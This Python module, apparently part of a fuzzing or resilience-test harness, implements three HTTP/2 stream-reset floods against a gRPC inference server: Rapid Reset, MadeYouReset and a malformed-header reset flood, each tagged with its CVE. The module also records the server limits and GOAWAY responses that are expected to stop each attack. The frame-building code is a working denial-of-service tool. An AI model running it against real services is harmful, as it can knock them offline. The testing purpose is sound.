"""Calls that are reset as soon as they are made, so that no limit on streams ever counts them."""

from __future__ import annotations

import struct
from functools import cache
from itertools import count
from typing import Final

from fuzz.attacks.attack import Attack
from fuzz.attacks.peer import Peer
from fuzz.attacks.wire import (
    END_HEADERS,
    Code,
    Kind,
    frame,
    framed,
    greeting,
    infer_message,
    request_block,
    settings,
    unary,
    window_update,
)

__all__ = ["MadeYouReset", "RapidReset", "ResetFlood"]

_AT_ONCE: Final = 100
_BLOCK: Final = request_block()
#: Asks another model than honest clients do: what fills that one's ring is load, which resets do not stop.
_BODY: Final = framed(infer_message("shapes", [1, 4], bytes(16), "FP32"))


def _streams(batch: int) -> range:
    first = 1 + 2 * _AT_ONCE * batch
    return range(first, first + 2 * _AT_ONCE, 2)


class RapidReset(Attack):
    """Calls, each followed by RST_STREAM; every second connection has them whole, so that they reach the model."""

    name = "rapid-reset"
    cve = "CVE-2023-44487"
    summary = "requests, each reset at once"
    limit = "`--limit resets` (200 beyond one of two calls)"
    stops = ("GOAWAY ENHANCE_YOUR_CALM",)

    async def strike(self, peer: Peer) -> None:
        whole = peer.tally.connections % 2 == 0
        await peer.send(greeting())
        for batch in count():
            await peer.send(self._requests(batch, whole), _AT_ONCE)

    @staticmethod
    @cache
    def _requests(batch: int, whole: bool) -> bytes:
        cancel = struct.pack(">I", Code.CANCEL)
        return b"".join(
            (unary(stream_id, _BLOCK, _BODY) if whole else frame(Kind.HEADERS, END_HEADERS, stream_id, _BLOCK))
            + frame(Kind.RST_STREAM, 0, stream_id, cancel)
            for stream_id in _streams(batch)
        )


class MadeYouReset(Attack):
    """Requests followed by what makes the server reset them: as rapid, but the resets are not the peer's."""

    name = "made-you-reset"
    cve = "CVE-2025-8671"
    summary = (
        "requests followed by a stream error, so that the server resets them: WINDOW_UPDATE of 0 or beyond 2^31-1, "
        "DATA after the end, PRIORITY of a wrong length, trailers that do not end the stream"
    )
    limit = "`--limit resets`, those that the peer provokes among them"
    stops = ("GOAWAY ENHANCE_YOUR_CALM",)

    async def strike(self, peer: Peer) -> None:
        # No window: the call is answered, and stays for as long as its answer waits.
        await peer.send(greeting(stream_window=0))
        for batch in count():
            await peer.send(self._requests(batch), _AT_ONCE)

    @staticmethod
    @cache
    def _requests(batch: int) -> bytes:
        return b"".join(_provocation(stream_id) for stream_id in _streams(batch))


def _provocation(stream_id: int) -> bytes:
    whole = unary(stream_id, _BLOCK, _BODY)
    opened = frame(Kind.HEADERS, END_HEADERS, stream_id, _BLOCK)
    ways = (
        whole + window_update(stream_id, 0),
        whole + window_update(stream_id, 2**31 - 1) * 2,
        whole + frame(Kind.DATA, 0, stream_id, b"more"),
        opened + frame(Kind.PRIORITY, 0, stream_id, b"four"),
        opened + frame(Kind.HEADERS, END_HEADERS, stream_id, b""),
    )
    return ways[stream_id // 2 % len(ways)]


class ResetFlood(Attack):
    """Requests that are malformed, each of which the server has to reset."""

    name = "reset-flood"
    cve = "CVE-2019-9514"
    summary = "malformed requests, each of which the server resets"
    limit = "`--limit resets`, those that the peer provokes among them"
    stops = ("GOAWAY ENHANCE_YOUR_CALM",)

    async def strike(self, peer: Peer) -> None:
        await peer.send(greeting() + settings())
        for batch in count():
            await peer.send(self._requests(batch), _AT_ONCE)

    @staticmethod
    @cache
    def _requests(batch: int) -> bytes:
        malformed = request_block("/", ("Upper-Case", "is malformed"))
        return b"".join(frame(Kind.HEADERS, END_HEADERS, stream_id, malformed) for stream_id in _streams(batch))
